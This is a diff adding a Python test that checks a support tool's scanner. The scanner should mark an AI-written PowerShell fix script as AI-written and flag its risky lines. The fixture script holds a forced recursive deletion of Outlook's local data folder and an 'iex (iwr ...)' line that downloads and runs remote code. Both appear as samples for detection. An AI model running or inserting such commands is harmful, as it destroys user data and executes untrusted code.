@@ -306,3 +306,32 @@ def test_persisting_a_fix_retries_after_losing_the_race_on_the_unique_index(
             .where(SuggestedFix.session_id == session_id, SuggestedFix.superseded_at.is_(None))
         ).scalar_one()
     assert active == 1
+
+
+def test_an_ai_script_is_checked_and_marked_as_ai_written(
+    pilot_client: Any, engineer: Any, helpers: SimpleNamespace
+) -> None:
+    sid = helpers.create_session(pilot_client, engineer)["id"]
+    script = (
+        "Write-Output 'Resetting the profile'\n"
+        'Remove-Item -Path "$env:LOCALAPPDATA\\Microsoft\\Outlook" -Recurse -Force\n'
+        "iex (iwr https://example.com/fix.ps1)\n"
+    )
+    _seed_fix(sid, engineer.account_id, "Reset Outlook", script=script)
+    card = pilot_client.get(
+        f"{helpers.base}/{sid}/suggested-fixes/active", headers=engineer.headers
+    ).get_json()
+    assert card["script_origin"] == "ai"
+    assert [(f["rule"], f["severity"], f["line"]) for f in card["script_findings"]] == [
+        ("RF1001", "warning", 2),
+        ("RF2002", "error", 3),
+    ]
+    assert all(f["why"] for f in card["script_findings"])
+    listed = pilot_client.get(f"{helpers.base}/{sid}/suggested-fixes", headers=engineer.headers)
+    assert listed.get_json()[0]["script_findings"] == card["script_findings"]
+
+    _seed_fix(sid, engineer.account_id, "Restart the client", steps=["Restart Outlook"])
+    plain = pilot_client.get(
+        f"{helpers.base}/{sid}/suggested-fixes/active", headers=engineer.headers
+    ).get_json()
+    assert plain["script_origin"] is None and plain["script_findings"] == []
